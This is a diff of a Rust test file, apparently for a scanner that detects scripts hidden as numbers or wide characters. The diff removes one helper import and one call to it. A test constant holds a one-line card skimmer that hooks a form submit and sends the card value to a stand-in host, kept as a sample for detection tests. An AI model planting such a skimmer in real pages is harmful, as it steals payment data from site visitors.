@@ -1,7 +1,7 @@
 //! Pages, scripts and programs that are handed over in ways in which no text is seen: number by number,
 //! packed into numbers, as wide characters at some place of memory, behind much else.
 
-use super::{Class, analysed, at_least, class, not_accused};
+use super::{Class, analysed, at_least, class};
 
 const SCRIPT: &str =
     "let f = document.forms[0]; f.onsubmit = () => { fetch('https://c.example.invalid/' + f.card.value); };";
@@ -125,7 +125,6 @@ fn much_before_a_page_hides_nothing() {
     assert!(found.class >= Class::PotentiallyUnwanted, "{:?}", found.reasons);
     let prose = carrier(PROSE.as_bytes(), far);
     assert_eq!(class(&prose), Class::Clean);
-    not_accused(&[("much text", prose)]);
 }
 
 #[test]
